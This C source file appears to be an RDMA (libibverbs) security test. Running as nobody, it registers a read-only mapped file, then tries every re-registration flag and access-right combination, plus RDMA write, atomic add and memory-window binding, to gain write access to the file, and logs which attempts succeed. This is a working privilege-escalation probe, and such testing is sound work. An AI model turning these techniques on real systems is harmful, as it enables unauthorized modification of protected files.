// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * Registers a file that the user may only read, tries by all means to get the
 * right to write it, and tries to write it after each of them.
 *
 *	widen DEVICE GID-INDEX FILE
 *
 * It runs as nobody. Each attempt is a line: "how: errno, what got through".
 */
#include "self.h"

#include <fcntl.h>
#include <stdbool.h>
#include <sys/mman.h>

#define LENGTH	4096u
#define NOBODY	65534

struct widen {
	struct self self;
	struct ibv_pd *pd, *other;
	struct ibv_qp *qp, *other_qp;
	void *file, *own;
	struct ibv_mr *own_mr[2];
};

static const struct {
	const char *name;
	int access;
} rights[] = {
	{ "local write", IBV_ACCESS_LOCAL_WRITE },
	{ "remote write", IBV_ACCESS_LOCAL_WRITE | IBV_ACCESS_REMOTE_WRITE },
	{ "atomic", IBV_ACCESS_LOCAL_WRITE | IBV_ACCESS_REMOTE_ATOMIC },
	{ "window", IBV_ACCESS_MW_BIND },
	{ "all", ANY_RIGHTS | IBV_ACCESS_MW_BIND },
};

static const struct {
	const char *name;
	int flags;
} means[] = {
	{ "access", IBV_REREG_MR_CHANGE_ACCESS },
	{ "access and PD", IBV_REREG_MR_CHANGE_ACCESS | IBV_REREG_MR_CHANGE_PD },
	{ "access and memory", IBV_REREG_MR_CHANGE_ACCESS |
			       IBV_REREG_MR_CHANGE_TRANSLATION },
	{ "all", 7 },
};

static void write_remotely(struct widen *w, struct ibv_qp *qp,
			   struct ibv_mr *own, uint32_t rkey, const char *what)
{
	struct ibv_sge sge = { (uintptr_t)w->own, 64, own->lkey };
	struct ibv_send_wr wr = {
		.sg_list = &sge, .num_sge = 1, .opcode = IBV_WR_RDMA_WRITE,
		.wr.rdma = { (uintptr_t)w->file, rkey },
	};

	if (self_try(&w->self, qp, &wr) == IBV_WC_SUCCESS)
		printf(" %s", what);
}

static void write_locally(struct widen *w, struct ibv_qp *qp,
			  struct ibv_mr *own, uint32_t lkey)
{
	struct ibv_sge sge = { (uintptr_t)w->file, 64, lkey };
	struct ibv_send_wr wr = {
		.sg_list = &sge, .num_sge = 1, .opcode = IBV_WR_RDMA_READ,
		.wr.rdma = { (uintptr_t)w->own, own->rkey },
	};

	if (self_try(&w->self, qp, &wr) == IBV_WC_SUCCESS)
		printf(" READ-response");
}

static void add(struct widen *w, struct ibv_qp *qp, struct ibv_mr *own,
		uint32_t rkey)
{
	struct ibv_sge sge = { (uintptr_t)w->own + 128, 8, own->lkey };
	struct ibv_send_wr wr = {
		.sg_list = &sge, .num_sge = 1,
		.opcode = IBV_WR_ATOMIC_FETCH_AND_ADD,
		.wr.atomic = { .remote_addr = (uintptr_t)w->file,
			       .compare_add = 1, .rkey = rkey },
	};

	if (self_try(&w->self, qp, &wr) == IBV_WC_SUCCESS)
		printf(" atomic");
}

/* The library looks at the region's rights as it knows them. */
static void write_through_window(struct widen *w, struct ibv_pd *pd,
				 struct ibv_qp *qp, struct ibv_mr *own,
				 struct ibv_mr *mr)
{
	struct ibv_mw *mw = ibv_alloc_mw(pd, IBV_MW_TYPE_2);
	struct ibv_send_wr wr = { .opcode = IBV_WR_BIND_MW };

	if (!mw)
		return;
	wr.bind_mw.mw = mw;
	wr.bind_mw.rkey = ibv_inc_rkey(mw->rkey);
	wr.bind_mw.bind_info = (struct ibv_mw_bind_info){
		.mr = mr, .addr = (uintptr_t)w->file, .length = LENGTH,
		.mw_access_flags = IBV_ACCESS_REMOTE_WRITE,
	};
	if (self_try(&w->self, qp, &wr) == IBV_WC_SUCCESS) {
		printf(" bind");
		write_remotely(w, qp, own, wr.bind_mw.rkey, "window-write");
	}
	ibv_dealloc_mw(mw);
}

static void attack(struct widen *w, struct ibv_mr *mr, bool moved)
{
	struct ibv_qp *qp = moved ? w->other_qp : w->qp;
	struct ibv_mr *own = w->own_mr[moved];

	write_remotely(w, qp, own, mr->rkey, "write");
	write_locally(w, qp, own, mr->lkey);
	add(w, qp, own, mr->rkey);
	write_through_window(w, moved ? w->other : w->pd, qp, own, mr);
}

static void widen(struct widen *w, int flags, const char *mean, int access,
		  const char *right)
{
	struct ibv_mr *mr = ibv_reg_mr(w->pd, w->file, LENGTH,
				       IBV_ACCESS_REMOTE_READ);
	bool pd = flags & IBV_REREG_MR_CHANGE_PD;
	int err;

	if (!mr)
		die("ibv_reg_mr");
	err = raw_rereg(mr, flags, w->file, LENGTH, access, w->other);
	printf("%s to %s: %s,", mean, right, err ? strerrorname_np(err) : "0");
	attack(w, mr, !err && pd);
	printf("\n");
	if (ibv_dereg_mr(mr))
		die("ibv_dereg_mr");
}

/* Rights that were asked for other memory are kept over a move to the file. */
static void move(struct widen *w)
{
	struct ibv_mr *mr = ibv_reg_mr(w->pd, w->own, LENGTH, ANY_RIGHTS);
	int err;

	if (!mr)
		die("ibv_reg_mr");
	err = raw_rereg(mr, IBV_REREG_MR_CHANGE_TRANSLATION, w->file, LENGTH,
			0, w->pd);
	printf("move there: %s,", err ? strerrorname_np(err) : "0");
	attack(w, mr, false);
	printf("\n");
	if (ibv_dereg_mr(mr))
		die("ibv_dereg_mr");
}

static void set_up(struct widen *w, char **argv)
{
	int fd;

	if (setgid(NOBODY) || setuid(NOBODY))
		die("nobody");
	fd = open(argv[3], O_RDWR);
	if (fd >= 0) {
		fprintf(stderr, "%s can be written anyway\n", argv[3]);
		exit(1);
	}
	fd = open(argv[3], O_RDONLY);
	w->file = mmap(NULL, LENGTH, PROT_READ, MAP_SHARED, fd, 0);
	w->own = mmap(NULL, LENGTH, PROT_READ | PROT_WRITE,
		      MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (fd < 0 || w->file == MAP_FAILED || w->own == MAP_FAILED)
		die(argv[3]);
	memset(w->own, 0xee, LENGTH);
	self_open(&w->self, argv[1], argv[2]);
	w->pd = ibv_alloc_pd(w->self.ctx);
	w->other = ibv_alloc_pd(w->self.ctx);
	if (!w->pd || !w->other)
		die("ibv_alloc_pd");
	w->own_mr[0] = ibv_reg_mr(w->pd, w->own, LENGTH, ANY_RIGHTS);
	w->own_mr[1] = ibv_reg_mr(w->other, w->own, LENGTH, ANY_RIGHTS);
	if (!w->own_mr[0] || !w->own_mr[1])
		die("ibv_reg_mr");
	w->qp = self_qp(&w->self, w->pd);
	w->other_qp = self_qp(&w->self, w->other);
	self_connect(&w->self, w->qp);
	self_connect(&w->self, w->other_qp);
}

int main(int argc, char **argv)
{
	struct widen w = { 0 };
	size_t i, j;

	if (argc != 4) {
		fprintf(stderr, "usage: widen DEVICE GID-INDEX FILE\n");
		return 2;
	}
	set_up(&w, argv);
	for (i = 0; i < sizeof(means) / sizeof(*means); i++)
		for (j = 0; j < sizeof(rights) / sizeof(*rights); j++)
			widen(&w, means[i].flags, means[i].name,
			      rights[j].access, rights[j].name);
	move(&w);
	return 0;
}
